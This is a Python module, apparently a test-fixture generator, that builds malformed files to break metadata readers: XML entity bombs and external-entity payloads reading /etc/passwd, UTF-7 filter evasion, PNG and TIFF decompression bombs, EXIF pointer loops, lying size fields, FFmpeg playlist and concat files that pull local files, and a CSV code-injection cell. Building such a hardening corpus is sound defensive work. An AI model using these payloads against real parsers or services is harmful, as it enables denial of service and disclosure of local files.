"""Files made to break readers, all made here: bombs, loops, lies about sizes, and words that call for other files.

Every maker gives bytes; `ALL` names them with an ending. `address` stands where a file asks for something outside.
"""

from __future__ import annotations

import base64
import itertools
import json
import struct
import zlib
from collections.abc import Callable

PNG = b"\x89PNG\r\n\x1a\n"
RDF = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/"'


def zeros(size: int) -> bytes:
    """A zlib stream that unpacks to `size` zeros: one flushed block, repeated, since such blocks stand alone."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    rest = last.compress(bytes(size & 0xFFFFF)) + last.flush()
    checksum = (size % 65521) << 16 | 1  # Adler-32 of zeros
    return b"\x78\xda" + block * (size >> 20) + rest + struct.pack(">I", checksum)


# --- XMP ---


def packet(body: str, doctype: str = "") -> bytes:
    """An XMP packet with one dc:description."""
    words = f"<rdf:li xml:lang='x-default'>{body}</rdf:li>"
    inner = (
        f"<rdf:Description rdf:about=''><dc:description><rdf:Alt>{words}</rdf:Alt></dc:description></rdf:Description>"
    )
    return f"{doctype}<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF {RDF}>{inner}</rdf:RDF></x:xmpmeta>".encode()


def billion_laughs(_: str) -> bytes:
    lines = ["<!ENTITY l0 'ha'>"] + [f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 11)]
    return packet("&l10;", f"<!DOCTYPE x [{''.join(lines)}]>")


def quadratic_blowup(_: str) -> bytes:
    return packet("&a;" * 50_000, f"<!DOCTYPE x [<!ENTITY a '{'a' * 50_000}'>]>")


def external_entity(address: str) -> bytes:
    return packet("&e;", f"<!DOCTYPE x [<!ENTITY e SYSTEM '{address}/entity'>]>")


def local_entity(_: str) -> bytes:
    return packet("&e;", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>")


def external_doctype(address: str) -> bytes:
    return packet("words", f"<!DOCTYPE x SYSTEM '{address}/x.dtd'>")


def parameter_entity(address: str) -> bytes:
    return packet("words", f"<!DOCTYPE x [<!ENTITY % p SYSTEM '{address}/p.dtd'> %p;]>")


def xinclude(address: str) -> bytes:
    return packet(f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{address}/inc' parse='text'/>")


def utf7_entity(address: str) -> bytes:
    """UTF-7 hides the DOCTYPE from a filter that looks at bytes."""
    head = '<?xml version="1.0" encoding="UTF-7"?>'
    body = packet("&e;", f"<!DOCTYPE x [<!ENTITY e SYSTEM '{address}/utf7'>]>").decode()
    return head.encode() + body.replace("<", "+ADw-").replace(">", "+AD4-").replace("&", "+ACY-").encode()


def utf16_entity(address: str) -> bytes:
    return b"\xff\xfe" + external_entity(address).decode().encode("utf-16-le")


def deep_elements(_: str) -> bytes:
    return packet("<a>" * 100_000 + "</a>" * 100_000)


def many_attributes(_: str) -> bytes:
    names = " ".join(f"dc:a{n}='v'" for n in range(100_000))
    return (
        f"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF {RDF}><rdf:Description {names}/></rdf:RDF></x:xmpmeta>".encode()
    )


def many_items(_: str) -> bytes:
    items = "<rdf:li>w</rdf:li>" * 200_000
    body = f"<rdf:Description><dc:subject><rdf:Bag>{items}</rdf:Bag></dc:subject></rdf:Description>"
    return f"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF {RDF}>{body}</rdf:RDF></x:xmpmeta>".encode()


def nul_and_surrogates(_: str) -> bytes:
    return packet("a&#0;b&#xD800;c\x00d")


# --- PNG ---


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*chunks: bytes, width: int = 8, height: int = 8, depth: int = 8, colour: int = 0, pixels: bytes = b"") -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    coded = pixels or zlib.compress(b"\x00" * (width + 1) * height)
    return PNG + header + b"".join(chunks) + chunk(b"IDAT", coded) + chunk(b"IEND", b"")


def gigapixel_png(_: str) -> bytes:
    side = 32768
    return png(width=side, height=side, depth=1, pixels=zeros((side // 8 + 1) * side))


def pixels_beyond_all_png(_: str) -> bytes:
    return png(width=0x7FFFFFFF, height=0x7FFFFFFF, pixels=zlib.compress(b""))


def icc_bomb_png(_: str) -> bytes:
    return png(chunk(b"iCCP", b"icc\x00\x00" + zeros(1 << 30)))


def text_bomb_png(_: str) -> bytes:
    bomb = zeros(1 << 30)
    return png(
        chunk(b"zTXt", b"Comment\x00\x00" + bomb), chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x01\x00\x00\x00" + bomb)
    )


def profile_bomb_png(_: str) -> bytes:
    hexed = b"\nexif\n  999999999\n" + b"00" * 1000
    return png(chunk(b"zTXt", b"Raw profile type exif\x00\x00" + zlib.compress(hexed)))


def many_texts_png(_: str) -> bytes:
    return png(*itertools.repeat(chunk(b"tEXt", b"Author\x00somebody"), 100_000))


def lying_chunk_png(_: str) -> bytes:
    return PNG + chunk(b"IHDR", bytes(13)) + b"\xff\xff\xff\xfftEXtAuthor\x00cut"


# --- TIFF and EXIF ---


def ifd(*entries: tuple[int, int, int, int], following: int = 0) -> bytes:
    rows = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return struct.pack("<H", len(entries)) + rows + struct.pack("<I", following)


def tiff(*directories: bytes) -> bytes:
    return b"II*\x00\x08\x00\x00\x00" + b"".join(directories)


def exif_loop(_: str) -> bytes:
    """Every pointer leads back to the first directory."""
    return tiff(ifd((0x8769, 4, 1, 8), (0x8825, 4, 1, 8), (0xA005, 4, 1, 8), (0x14A, 4, 1, 8), following=8))


def exif_chain(_: str) -> bytes:
    size = 18
    chain = [ifd((0x8769, 4, 1, 8 + size * (n + 1)), following=8 + size * (n + 1)) for n in range(50_000)]
    return tiff(*chain)


def sub_ifd_fan(_: str) -> bytes:
    """One directory with 60,000 children that are all itself."""
    return tiff(ifd((0x14A, 4, 60_000, 26))) + struct.pack("<I", 8) * 60_000


def huge_counts_tiff(_: str) -> bytes:
    return tiff(
        ifd((0x13B, 2, 0xFFFFFFFF, 8), (0x10E, 5, 0x1FFFFFFF, 8), (0x8769, 4, 0xFFFFFFFF, 8), (700, 1, 0xFFFFFFF0, 8))
    )


def gigapixel_tiff(_: str) -> bytes:
    side = 32768
    strip = zeros(side * side // 8)
    rows = ((256, 4, 1, side), (257, 4, 1, side), (258, 3, 1, 1), (259, 3, 1, 8), (262, 3, 1, 1))
    more = ((273, 4, 1, 8 + 2 + 12 * 9 + 4), (277, 3, 1, 1), (278, 4, 1, side), (279, 4, 1, len(strip)))
    return tiff(ifd(*rows, *more)) + strip


def zero_rationals_tiff(_: str) -> bytes:
    entries = ((0x11A, 5, 1, 100), (0x11B, 5, 1, 100), (0x8825, 4, 1, 60))
    body = tiff(ifd(*entries)).ljust(60, b"\x00") + ifd(
        (1, 2, 2, 0x4E), (2, 5, 3, 100), (3, 2, 2, 0x45), (4, 5, 3, 100)
    )
    return body.ljust(100, b"\x00") + bytes(64)


# --- JPEG ---


def segment(marker: int, data: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def jpeg(*segments: bytes, rest: bytes = b"\x00" * 64) -> bytes:
    frame = segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00")
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
    return b"\xff\xd8" + b"".join(segments) + frame + scan + rest + b"\xff\xd9"


def ten_thousand_segments(_: str) -> bytes:
    kinds = (b"Exif\x00\x00" + tiff(ifd((0x13B, 2, 4, 0x00424241))), b"http://ns.adobe.com/xap/1.0/\x00" + packet("w"))
    return jpeg(*(segment(0xE1, kinds[n % 2]) for n in range(10_000)))


def comments_jpeg(_: str) -> bytes:
    return jpeg(*itertools.repeat(segment(0xFE, b"c" * 100), 60_000))


def extended_xmp_lie(_: str) -> bytes:
    """An extended packet that says it has four gigabytes, in pieces that overlap and leave holes."""
    guid = b"0123456789ABCDEF0123456789ABCDEF"
    name = b"http://ns.adobe.com/xmp/extension/\x00"
    pieces = [name + guid + struct.pack(">II", 0xFFFFFFFF, n * 50) + b"x" * 100 for n in range(500)]
    first = packet("w").replace(
        b"rdf:about=''", b"rdf:about='' xmlns:n='http://ns.adobe.com/xmp/note/' n:HasExtendedXMP='" + guid + b"'"
    )
    return jpeg(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + first), *(segment(0xE1, piece) for piece in pieces))


def icc_count_lie(_: str) -> bytes:
    return jpeg(*(segment(0xE2, b"ICC_PROFILE\x00" + bytes((n % 256, 255)) + b"x" * 60_000) for n in range(600)))


def jumbf_lie(_: str) -> bytes:
    box = (
        struct.pack(">I4s", 0xFFFFFFFF, b"jumb")
        + b"\x00\x00\x00\x1ejumdc2pa\x00\x11\x00\x10\x80\x00\x00\xaa\x008\x9bq\x03c2pa\x00"
    )
    return jpeg(*(segment(0xEB, b"JP\x00\x01" + struct.pack(">I", n + 1) + box + b"x" * 500) for n in range(50)))


def irb_lie(_: str) -> bytes:
    resources = b"8BIM\x04\x04\x00\x00\xff\xff\xff\xff" + b"\x1c\x02\x50\x84\x00\xff\xff\xff\xffname" * 10
    return jpeg(segment(0xED, b"Photoshop 3.0\x00" + resources))


def iim_flood(_: str) -> bytes:
    sets = b"\x1c\x02\x19\x00\x01k" * 9_000
    resource = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(sets)) + sets
    return jpeg(*itertools.repeat(segment(0xED, b"Photoshop 3.0\x00" + resource), 200))


def markers_only(_: str) -> bytes:
    return b"\xff\xd8" + b"\xff" * 1_000_000


def restart_flood(_: str) -> bytes:
    return jpeg(rest=b"\xff\xd0" * 2_000_000)


def exif_in_jpeg(_: str) -> bytes:
    return jpeg(segment(0xE1, b"Exif\x00\x00" + exif_loop("")))


# --- boxes, RIFF and the rest ---


def box(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I4s", len(data) + 8, kind) + data


FTYP = box(b"ftyp", b"mp42\x00\x00\x00\x00mp42isom")


def deep_boxes(_: str) -> bytes:
    data = b""
    for kind in itertools.islice(itertools.cycle((b"moov", b"trak", b"udta", b"meta", b"mdia")), 20_000):
        data = box(kind, data)
    return FTYP + data


def lying_boxes(_: str) -> bytes:
    return FTYP + struct.pack(">I4sQ", 1, b"moov", 0xFFFFFFFFFFFFFFFF) + struct.pack(">I4s", 0, b"udta") + b"\x00" * 64


def empty_boxes(_: str) -> bytes:
    return FTYP + box(b"moov", box(b"udta", b"\x00\x00\x00\x08free" * 200_000))


def item_flood_heic(_: str) -> bytes:
    """An item location box in which 65,535 items each name 65,535 extents."""
    iloc = b"\x00\x00\x00\x00\x44\x00" + struct.pack(">H", 0xFFFF) + b"\x00\x01\x00\x00\xff\xff" * 1000
    infe = box(b"infe", b"\x02\x00\x00\x00\x00\x01\x00\x00Exif\x00")
    iinf = box(b"iinf", b"\x00\x00\x00\x00\xff\xff" + infe * 500)
    return box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic") + box(b"meta", b"\x00\x00\x00\x00" + iinf + box(b"iloc", iloc))


def movie(*fields: bytes, created: int = 0) -> bytes:
    header = box(b"mvhd", struct.pack(">IIIII", 0, created, created, 1000, 5000) + bytes(80))
    return FTYP + box(b"moov", header + b"".join(fields))


def key_flood_mov(_: str) -> bytes:
    keys = box(
        b"keys", bytes(4) + struct.pack(">I", 0xFFFFFFFF) + struct.pack(">I4s4s", 12, b"mdta", b"make") * 100_000
    )
    value = box(b"data", struct.pack(">II", 1, 0) + b"v")
    ilst = box(b"ilst", b"".join(box(struct.pack(">I", n), value) for n in range(50_000)))
    return movie(box(b"meta", box(b"hdlr", bytes(20)) + keys + ilst), created=0xFFFFFFFF)


def external_reference_mov(address: str) -> bytes:
    """A track whose data are said to lie at an address."""
    alias = box(b"url ", bytes(4) + address.encode() + b"/track\x00")
    dinf = box(b"dinf", box(b"dref", struct.pack(">II", 0, 1) + alias))
    redirect = box(
        b"rmra", box(b"rmda", box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", len(address)) + address.encode()))
    )
    return movie(box(b"trak", box(b"mdia", box(b"minf", dinf))), redirect)


def riff_nest(_: str) -> bytes:
    data = b""
    for _number in range(20_000):
        data = b"LIST" + struct.pack("<I", len(data) + 4) + b"INFO" + data
    return b"RIFF" + struct.pack("<I", len(data) + 4) + b"WAVE" + data


def riff_lie(_: str) -> bytes:
    return b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\x00\x00\x00" + bytes(10) + b"XMP \xff\xff\xff\xff<x:xmpmeta"


def gif_blocks(_: str) -> bytes:
    head = b"GIF89a\x08\x00\x08\x00\x00\x00\x00"
    return head + b"!\xff\x0bXMP DataXMP" + (b"\xff" + b"<" * 255) * 20_000


def pdf_objects(_: str) -> bytes:
    streams = b"1 0 obj\n<</Filter/FlateDecode/Length 99>>\nstream\n" + zeros(64 << 20)[:60_000] + b"\nendstream\n"
    return b"%PDF-1.7\n" + streams * 20 + b"<x:xmpmeta" * 50_000


def svg_entities(address: str) -> bytes:
    doctype = f"<!DOCTYPE svg [<!ENTITY e SYSTEM '{address}/svg'>]>"
    return f"<?xml version='1.0'?>{doctype}<svg xmlns='http://www.w3.org/2000/svg'><metadata><rdf:RDF {RDF}><rdf:Description><dc:title>&e;</dc:title></rdf:Description></rdf:RDF></metadata><image href='{address}/pic'/></svg>".encode()


def svg_manifest(_: str) -> bytes:
    words = base64.b64encode(b"\xff" * 1000).decode()
    return f"<svg xmlns='http://www.w3.org/2000/svg'><metadata><c2pa:manifest xmlns:c2pa='http://c2pa.org/manifest'>{words}</c2pa:manifest></metadata></svg>".encode()


def playlist(address: str) -> bytes:
    return (
        f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{address}/seg.ts\n#EXTINF:1,\nfile:///etc/passwd\n".encode()
    )


def playlist_as_mp4(address: str) -> bytes:
    """FFmpeg guesses a demuxer by content unless told which: this would be a playlist to it."""
    return FTYP + playlist(address)


def concat_script(address: str) -> bytes:
    return f"ffconcat version 1.0\nfile {address}/a.mp4\nfile /etc/passwd\n".encode()


def remote_manifest(address: str) -> bytes:
    """A picture that only says where its manifest is."""
    body = packet("w").replace(
        b"rdf:about=''",
        b"rdf:about='' xmlns:t='http://purl.org/dc/terms/' t:provenance='" + address.encode() + b"/m.c2pa'",
    )
    return jpeg(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + body))


# --- sidecars ---


def deep_json(_: str) -> bytes:
    return b"[" * 200_000


def long_number_json(_: str) -> bytes:
    return b'[{"SourceFile": "a.jpg", "IPTC:By-line": ' + b"9" * 100_000 + b"}]"


def odd_types_json(_: str) -> bytes:
    odd = {
        "SourceFile": 1,
        "XMP:Creator": [[["a"]], {"b": {}}, None, 1e308],
        "GPSLatitude": {},
        "IPTC:DateCreated": [[]],
    }
    return json.dumps([odd | {"XMP-iptcExt:LocationShown": ["x", {"City": {"a": 1}}], "Title": "\ud800\x00"}]).encode()


def deep_cell_csv(_: str) -> bytes:
    cell = "[" * 5000 + "]" * 5000
    return f'status,metadata,media\ndone,"{cell}","{cell}"\n'.encode()


def code_cell_csv(_: str) -> bytes:
    cell = "__import__('os').system('true')"
    return f'status,metadata,media\ndone,"{cell}","{{\'url\': ().__class__.__bases__[0]}}"\n'.encode()


def nul_csv(_: str) -> bytes:
    return b"status,metadata,media\n\x00,\x00,\x00\n" + b'"' * 500_000


ALL: dict[str, Callable[[str], bytes]] = {
    "billion-laughs.xmp": billion_laughs,
    "quadratic-blowup.xmp": quadratic_blowup,
    "external-entity.xmp": external_entity,
    "local-entity.xmp": local_entity,
    "external-doctype.xmp": external_doctype,
    "parameter-entity.xmp": parameter_entity,
    "xinclude.xmp": xinclude,
    "utf7-entity.xmp": utf7_entity,
    "utf16-entity.xmp": utf16_entity,
    "deep-elements.xmp": deep_elements,
    "many-attributes.xmp": many_attributes,
    "many-items.xmp": many_items,
    "nul-and-surrogates.xmp": nul_and_surrogates,
    "gigapixel.png": gigapixel_png,
    "pixels-beyond-all.png": pixels_beyond_all_png,
    "icc-bomb.png": icc_bomb_png,
    "text-bomb.png": text_bomb_png,
    "profile-bomb.png": profile_bomb_png,
    "many-texts.png": many_texts_png,
    "lying-chunk.png": lying_chunk_png,
    "exif-loop.tif": exif_loop,
    "exif-chain.tif": exif_chain,
    "sub-ifd-fan.tif": sub_ifd_fan,
    "huge-counts.tif": huge_counts_tiff,
    "gigapixel.tif": gigapixel_tiff,
    "zero-rationals.tif": zero_rationals_tiff,
    "ten-thousand-segments.jpg": ten_thousand_segments,
    "comments.jpg": comments_jpeg,
    "extended-xmp-lie.jpg": extended_xmp_lie,
    "icc-count-lie.jpg": icc_count_lie,
    "jumbf-lie.jpg": jumbf_lie,
    "irb-lie.jpg": irb_lie,
    "iim-flood.jpg": iim_flood,
    "markers-only.jpg": markers_only,
    "restart-flood.jpg": restart_flood,
    "exif-loop.jpg": exif_in_jpeg,
    "deep-boxes.mp4": deep_boxes,
    "lying-boxes.mp4": lying_boxes,
    "empty-boxes.mp4": empty_boxes,
    "item-flood.heic": item_flood_heic,
    "key-flood.mov": key_flood_mov,
    "external-reference.mov": external_reference_mov,
    "riff-nest.wav": riff_nest,
    "riff-lie.webp": riff_lie,
    "blocks.gif": gif_blocks,
    "objects.pdf": pdf_objects,
    "entities.svg": svg_entities,
    "manifest.svg": svg_manifest,
    "playlist.m3u8": playlist,
    "playlist.mp4": playlist_as_mp4,
    "script.ffconcat": concat_script,
    "remote-manifest.jpg": remote_manifest,
    "deep.json": deep_json,
    "long-number.json": long_number_json,
    "odd-types.json": odd_types_json,
    "deep-cell.csv": deep_cell_csv,
    "code-cell.csv": code_cell_csv,
    "nul.csv": nul_csv,
}
